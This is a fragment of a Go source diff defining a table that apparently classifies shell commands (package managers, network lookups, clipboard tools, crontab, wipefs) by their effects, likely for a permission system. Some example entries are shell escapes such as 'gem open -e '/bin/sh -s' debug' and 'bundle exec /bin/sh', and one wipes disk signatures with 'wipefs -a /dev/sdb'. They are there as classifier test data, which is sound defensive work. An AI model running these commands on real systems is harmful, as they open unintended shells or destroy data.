 	return Pack{Programs: []Program{{Exe: []string{"hatch"}, Sub: []string{"run|test|build|shell|env|version|new|publish|clean|fmt|project|dep|config|python|self"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"hatch run test", "hatch build", "hatch version minor", "hatch fmt"}}}}
 }
 
-func effectsPackagesL693() Pack {
+func effectsPackagesL728() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"conda", "mamba"}, Flags: []string{"-v", "--verbose", "-q", "--quiet", "--json", "-y", "--yes", "--dry-run", "-d"}, Values: []string{"-n", "--name", "-p", "--prefix", "-c", "--channel"}, Effects: map[string]string{"--offline": "offline"}, Operands: "subcommand", Env: map[string]string{"CONDARC": "exec"}, Examples: []string{"conda frobnicate"}}}}
 }
 
-func effectsPackagesL704() Pack {
+func effectsPackagesL739() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"conda", "mamba"}, Sub: []string{"list|info|doctor"}, Flags: []string{"--json", "-e", "--export", "--explicit", "--md5", "--revisions", "-r", "--full-name", "-f", "--canonical", "-c", "--envs", "-a", "--all", "-s", "--system", "--base", "--unsafe-channels", "-v", "--verbose", "--no-pip", "--show-channel-urls"}, Values: []string{"-n", "--name", "-p", "--prefix"}, Examples: []string{"conda list", "conda info --envs", "mamba list -n base numpy", "conda list --explicit"}}}}
 }
 
-func effectsPackagesL713() Pack {
+func effectsPackagesL748() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"conda", "mamba"}, Sub: []string{"env", "list|export"}, Flags: []string{"--json", "--no-builds", "--from-history", "--override-channels"}, Values: []string{"-n", "--name", "-p", "--prefix", "-c", "--channel"}, Effects: map[string]string{"--file": "write", "-f": "write"}, Examples: []string{"conda env list", "conda env export -n base --from-history", "conda env export -f environment.yml"}}}}
 }
 
-func effectsPackagesL723() Pack {
+func effectsPackagesL758() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"conda", "mamba"}, Sub: []string{"config"}, Flags: []string{"--show", "--show-sources", "--describe", "--validate", "--json", "--system", "--env"}, Values: []string{"--get", "--file"}, Effects: map[string]string{"--add": "exec", "--append": "exec", "--prepend": "exec", "--remove": "exec", "--remove-key": "exec", "--set": "exec", "--write-default": "writes-files"}, Examples: []string{"conda config --show channels", "conda config --get channels", "conda config --set auto_activate_base false"}}}}
 }
 
-func effectsPackagesL738() Pack {
+func effectsPackagesL773() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"conda", "mamba"}, Sub: []string{"install|create|update|upgrade|remove|uninstall|env|run|activate|deactivate|clean|init|search|package|build|develop|rename|compare|notices|repoquery|shell|self-update|tos"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"conda install -y numpy", "conda create -n py312 python=3.12", "conda run -n base python x.py", "conda search scipy"}}}}
 }
 
-func effectsPackagesL747() Pack {
+func effectsPackagesL782() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"composer"}, Env: map[string]string{"COMPOSER": "exec", "COMPOSER_HOME": "exec", "EDITOR": "shell"}, Always: []string{"runs-code"}, Examples: []string{"composer install", "composer show", "composer run-script x", "composer require monolog/monolog"}}}}
 }
 
-func effectsPackagesL756() Pack {
+func effectsPackagesL791() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gem"}, Operands: "subcommand", Env: map[string]string{"EDITOR": "shell", "GEMRC": "exec", "GEM_EDITOR": "shell", "GEM_HOME": "exec", "RUBYLIB": "exec", "RUBYOPT": "exec", "VISUAL": "shell"}, Examples: []string{"gem frobnicate"}}}}
 }
 
-func effectsPackagesL769() Pack {
+func effectsPackagesL804() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gem"}, Sub: []string{"list|info|contents|specification|spec|which|environment|env|dependency|dep|query|help|sources|stale|check"}, Flags: []string{"-l", "--local", "-i", "--installed", "-d", "--details", "--no-details", "--all", "--prerelease", "--no-prerelease", "--versions", "--no-versions", "-e", "--exact", "--default", "--no-default", "-q", "--quiet", "-V", "--verbose", "--no-verbose", "--lib-only", "--prefix", "--no-prefix", "--show-install-dir", "-R", "--reverse-dependencies", "--pipe", "--ruby", "--yaml", "--marshal", "--all-files", "--doctor", "--dry-run", "--alien", "--gems", "--no-gems", "--test"}, Values: []string{"-v", "--version", "--platform", "-s", "--spec-dir", "--bindir"}, Effects: map[string]string{"--add": "network", "--both": "network", "--clear-all": "writes-files", "--remote": "network", "--remove": "network", "--source": "url", "--update": "network", "-a": "network", "-b": "network", "-c": "writes-files", "-r": "network", "-u": "network"}, Examples: []string{"gem list", "gem list rails --exact", "gem info bundler", "gem contents rake", "gem env", "gem which json"}}}}
 }
 
-func effectsPackagesL793() Pack {
+func effectsPackagesL828() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gem"}, Sub: []string{"install|i|uninstall|update|build|push|yank|owner|cleanup|pristine|rebuild|open|search|outdated|fetch|unpack|signin|signout|cert|lock|mirror|rdoc|server|setup|generate_index|exec"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"gem install bundler", "gem open -e '/bin/sh -s' debug", "gem build /path/to/script.rb", "gem install --file /path/to/script.rb", "gem search rails"}}}}
 }
 
-func effectsPackagesL800() Pack {
+func effectsPackagesL835() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"bundle", "bundler"}, Operands: "subcommand", Env: map[string]string{"BUNDLER_EDITOR": "shell", "BUNDLE_GEMFILE": "exec", "EDITOR": "shell", "RUBYLIB": "exec", "RUBYOPT": "exec"}, Always: []string{"runs-code"}, Examples: []string{"bundle", "bundle frobnicate", "BUNDLE_GEMFILE=x bundle frobnicate"}}}}
 }
 
-func effectsPackagesL812() Pack {
+func effectsPackagesL847() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"bundle", "bundler"}, Sub: []string{"version"}, Examples: []string{"bundle version", "bundler version"}}}}
 }
 
-func effectsPackagesL817() Pack {
+func effectsPackagesL852() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"bundle", "bundler"}, Sub: []string{"config"}, Flags: []string{"--parseable", "--global", "--local"}, Effects: map[string]string{"--delete": "operands:write"}, Last: "write", Examples: []string{"bundle config", "bundle config set path vendor/bundle"}, Counter: []string{"bundle install"}}}}
 }
 
-func effectsPackagesL827() Pack {
+func effectsPackagesL862() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"bundle", "bundler"}, Sub: []string{"config", "get|list"}, Flags: []string{"--parseable"}, Examples: []string{"bundle config get path", "bundle config list"}}}}
 }
 
-func effectsPackagesL833() Pack {
+func effectsPackagesL868() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"bundle", "bundler"}, Sub: []string{"install|update|exec|list|show|info|check|outdated|console|open|lock|package|pack|cache|binstubs|clean|platform|doctor|add|remove|init|gem|plugin|viz|inject|help|fund|licenses|issue|pristine"}, Always: []string{"runs-code", "network", "writes-files"}, Examples: []string{"bundle install", "bundle exec rspec", "bundle list", "bundle console", "bundle help", "bundle exec /bin/sh", "BUNDLE_GEMFILE=x bundle exec /bin/sh"}}}}
 }
 
@@ -9793,58 +9848,58 @@ func effectsSysinfoL930() Pack {
 }
 
 func effectsSysinfoL939() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"ping", "ping6"}, Flags: []string{"-4", "-6", "-a", "-A", "-b", "-B", "-d", "-D", "-f", "-L", "-n", "-O", "-q", "-R", "-r", "-U", "-v", "-V", "-H", "-h"}, Values: []string{"-c", "-e", "-F", "-i", "-I", "-l", "-m", "-M", "-N", "-p", "-Q", "-s", "-S", "-t", "-T", "-w", "-W"}, Operands: "host", Always: []string{"network"}, Examples: []string{"ping -c 3 example.com", "ping6 -c 1 ::1"}, Counter: []string{"traceroute example.com"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"ping", "ping6"}, Flags: []string{"-4", "-6", "-a", "-A", "-b", "-B", "-d", "-D", "-f", "-L", "-n", "-O", "-q", "-R", "-r", "-U", "-v", "-V", "-H", "-h"}, Values: []string{"-c", "-e", "-F", "-i", "-I", "-l", "-m", "-M", "-N", "-Q", "-s", "-S", "-t", "-T", "-w", "-W"}, Effects: map[string]string{"-p": "text,sends"}, Operands: "host", Always: []string{"remote-read"}, Examples: []string{"ping -c 3 example.com", "ping6 -c 1 ::1"}, Counter: []string{"traceroute example.com"}}}}
 }
 
-func effectsSysinfoL948() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"traceroute", "tracepath"}, Flags: []string{"-4", "-6", "-I", "--icmp", "-T", "--tcp", "-U", "--udp", "-UL", "-D", "-F", "--dont-fragment", "-n", "-e", "--extensions", "-A", "--as-path-lookups", "-b", "-r", "-d", "--debug", "--back", "-V", "--version", "--mtu"}, Values: []string{"-f", "--first", "-g", "--gateway", "-i", "--interface", "-m", "--max-hops", "-N", "--sim-queries", "-p", "--port", "-t", "--tos", "-l", "--flowlabel", "-w", "--wait", "-q", "--queries", "-s", "--source", "-z", "--sendwait", "-M", "--module", "-O", "--options", "--sport", "--fwmark", "-P", "--protocol"}, Operands: "host", Always: []string{"network"}, Examples: []string{"traceroute -n example.com", "tracepath -b example.com"}, Counter: []string{"mtr example.com"}}}}
+func effectsSysinfoL950() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"traceroute", "tracepath"}, Flags: []string{"-4", "-6", "-I", "--icmp", "-T", "--tcp", "-U", "--udp", "-UL", "-D", "-F", "--dont-fragment", "-n", "-e", "--extensions", "-A", "--as-path-lookups", "-b", "-r", "-d", "--debug", "--back", "-V", "--version", "--mtu"}, Values: []string{"-f", "--first", "-g", "--gateway", "-i", "--interface", "-m", "--max-hops", "-N", "--sim-queries", "-p", "--port", "-t", "--tos", "-l", "--flowlabel", "-w", "--wait", "-q", "--queries", "-s", "--source", "-z", "--sendwait", "-M", "--module", "-O", "--options", "--sport", "--fwmark", "-P", "--protocol"}, Operands: "host", Always: []string{"remote-read"}, Examples: []string{"traceroute -n example.com", "tracepath -b example.com"}, Counter: []string{"mtr example.com"}}}}
 }
 
-func effectsSysinfoL960() Pack {
+func effectsSysinfoL962() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"mtr"}, Flags: []string{"-4", "-6", "-u", "--udp", "-T", "--tcp", "-S", "--sctp", "-n", "--no-dns", "-b", "--show-ips", "-e", "--mpls", "-z", "--aslookup", "-r", "--report", "-w", "--report-wide", "-x", "--xml", "-t", "--curses", "-g", "--gtk", "-l", "--raw", "-C", "--csv", "-j", "--json", "--displaymode", "-v", "--version", "-h", "--help", "-p", "--split"}, Values: []string{"-I", "--interface", "-a", "--address", "-f", "--first-ttl", "-m", "--max-ttl", "-U", "--max-unknown", "-P", "--port", "-L", "--localport", "-s", "--psize", "-B", "--bitpattern", "-i", "--interval", "-G", "--gracetime", "-Q", "--tos", "-c", "--report-cycles", "-o", "--order", "-y", "--ipinfo", "-Z", "--timeout", "-M", "--mark"}, Effects: map[string]string{"--filename": "read", "-F": "read"}, Operands: "host", Always: []string{"network"}, Examples: []string{"mtr -r -c 10 example.com", "mtr --report example.com"}, Counter: []string{"ping example.com"}}}}
 }
 
-func effectsSysinfoL978() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"dig"}, Flags: []string{"-4", "-6", "-h", "-i", "-m", "-n", "-r", "-u", "-v"}, Values: []string{"-b", "-c", "-p", "-q", "-t", "-x", "-y"}, Effects: map[string]string{"+": "text", "-f": "read", "-k": "read"}, Operands: "host", Always: []string{"network"}, Examples: []string{"dig example.com", "dig +short A example.com @1.1.1.1", "dig -x 1.1.1.1"}, Counter: []string{"host example.com"}}}}
+func effectsSysinfoL980() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"dig"}, Flags: []string{"-4", "-6", "-h", "-i", "-m", "-n", "-r", "-u", "-v"}, Values: []string{"-b", "-c", "-p", "-q", "-t", "-x", "-y"}, Effects: map[string]string{"+": "text", "-f": "upload", "-k": "read"}, Operands: "host", Always: []string{"remote-read"}, Examples: []string{"dig example.com", "dig +short A example.com @1.1.1.1", "dig -x 1.1.1.1"}, Counter: []string{"host example.com"}}}}
 }
 
-func effectsSysinfoL991() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"host"}, Flags: []string{"-a", "-A", "-C", "-d", "-l", "-r", "-s", "-T", "-U", "-v", "-V", "-4", "-6", "-i", "-w"}, Values: []string{"-c", "-D", "-m", "-N", "-R", "-t", "-W"}, Operands: "host", Always: []string{"network"}, Examples: []string{"host example.com", "host -t MX example.com 8.8.8.8"}, Counter: []string{"dig example.com"}}}}
+func effectsSysinfoL994() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"host"}, Flags: []string{"-a", "-A", "-C", "-d", "-l", "-r", "-s", "-T", "-U", "-v", "-V", "-4", "-6", "-i", "-w"}, Values: []string{"-c", "-D", "-m", "-N", "-R", "-t", "-W"}, Operands: "host", Always: []string{"remote-read"}, Examples: []string{"host example.com", "host -t MX example.com 8.8.8.8"}, Counter: []string{"dig example.com"}}}}
 }
 
-func effectsSysinfoL1000() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"nslookup"}, Operands: "host", Always: []string{"network"}, Examples: []string{"nslookup example.com", "nslookup -type=mx example.com 1.1.1.1"}, Counter: []string{"dig example.com"}}}}
+func effectsSysinfoL1003() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"nslookup"}, Operands: "host", Always: []string{"remote-read"}, Examples: []string{"nslookup example.com", "nslookup -type=mx example.com 1.1.1.1"}, Counter: []string{"dig example.com"}}}}
 }
 
-func effectsSysinfoL1007() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"whois"}, Flags: []string{"-l", "-L", "-m", "-M", "-c", "-x", "-b", "-B", "-G", "-d", "-K", "-r", "-R", "-a", "--verbose", "--no-recursion", "-H", "-I", "--version", "--help"}, Values: []string{"-p", "--port", "-i", "-T", "-s", "-q", "-t", "-v", "-g"}, Effects: map[string]string{"--host": "host", "-h": "host"}, Operands: "text", Always: []string{"network"}, Examples: []string{"whois example.com", "whois -h whois.arin.net 8.8.8.8"}, Counter: []string{"dig example.com"}}}}
+func effectsSysinfoL1010() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"whois"}, Flags: []string{"-l", "-L", "-m", "-M", "-c", "-x", "-b", "-B", "-G", "-d", "-K", "-r", "-R", "-a", "--verbose", "--no-recursion", "-H", "-I", "--version", "--help"}, Values: []string{"-p", "--port", "-i", "-T", "-s", "-q", "-t", "-v", "-g"}, Effects: map[string]string{"--host": "host", "-h": "host"}, Operands: "text", Always: []string{"remote-read"}, Examples: []string{"whois example.com", "whois -h whois.arin.net 8.8.8.8"}, Counter: []string{"dig example.com"}}}}
 }
 
-func effectsSysinfoL1023() Pack {
+func effectsSysinfoL1026() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"xclip"}, Flags: []string{"-r", "-rmlastnl", "-q", "-quiet", "-silent", "-verbose", "-noutf8", "-h", "-help", "-version"}, Values: []string{"-selection", "-sel", "-t", "-target", "-d", "-display"}, Effects: map[string]string{"-o": "operands:text", "-out": "operands:text"}, Operands: "subcommand", Examples: []string{"xclip -o -selection clipboard", "xclip -selection clipboard file.txt", "xclip"}, Counter: []string{"xsel -o"}}}}
 }
 
-func effectsSysinfoL1035() Pack {
+func effectsSysinfoL1038() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"xsel"}, Flags: []string{"-p", "--primary", "-s", "--secondary", "-b", "--clipboard", "-z", "--zeroflush", "-n", "--nodetach", "-q", "--quiet", "-v", "--verbose", "--trim", "--version"}, Values: []string{"--display", "-m", "--name", "-t", "--selectionTimeout"}, Effects: map[string]string{"--logfile": "write", "--output": "operands:text", "-l": "write", "-o": "operands:text"}, Operands: "subcommand", Examples: []string{"xsel -o -b", "xsel -b"}, Counter: []string{"xclip -o"}}}}
 }
 
-func effectsSysinfoL1049() Pack {
+func effectsSysinfoL1052() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pbpaste"}, Values: []string{"-pboard", "-Prefer"}, Examples: []string{"pbpaste", "pbpaste -pboard find"}, Counter: []string{"pbcopy"}}}}
 }
 
-func effectsSysinfoL1056() Pack {
+func effectsSysinfoL1059() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pbcopy"}, Values: []string{"-pboard"}, Always: []string{"writes-files"}, Examples: []string{"pbcopy", "pbcopy -pboard general"}, Counter: []string{"pbpaste"}}}}
 }
 
-func effectsSysinfoL1067() Pack {
+func effectsSysinfoL1070() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"crontab"}, Flags: []string{"-V"}, Values: []string{"-u", "-c"}, Effects: map[string]string{"-T": "operands:read", "-l": "operands:text"}, Operands: "subcommand", Stdin: "script:crontab", Examples: []string{"crontab -l", "crontab -u me -l", "crontab jobs.txt"}, Counter: []string{"at now"}}}}
 }
 
-func effectsSysinfoL1082() Pack {
+func effectsSysinfoL1085() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"watch"}, Flags: []string{"-b", "--beep", "-c", "-C", "--no-color", "-e", "--errexit", "-g", "--chgexit", "-p", "--precise", "-t", "--no-title", "-w", "--no-wrap", "-r", "--no-rerun", "-v"}, Values: []string{"-n", "--interval", "-q", "--equexit"}, Optional: []string{"--color"}, Effects: map[string]string{"--differences": "shell", "--exec": "operands:exec", "--shotsdir": "write", "-d": "shell", "-s": "write", "-x": "operands:exec"}, Operands: "shell", Examples: []string{"watch -v", "watch -n 2"}, Counter: []string{"tmux ls"}}}}
 }
 
-func effectsSysinfoL1101() Pack {
+func effectsSysinfoL1104() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"wipefs"}, Flags: []string{"-n", "--no-act", "-f", "--force", "-q", "--quiet", "-J", "--json", "-i", "--noheadings", "-p", "--parsable", "-h", "--help", "-V", "--version"}, Values: []string{"-O", "--output", "-t", "--types", "--lock"}, Effects: map[string]string{"--all": "operands:write", "--backup": "writes-files", "--offset": "operands:write", "-a": "operands:write", "-b": "writes-files", "-o": "operands:write"}, Operands: "stat", Examples: []string{"wipefs /dev/sda", "wipefs -J /dev/nvme0n1", "wipefs -a /dev/sdb"}}}}
 }
 
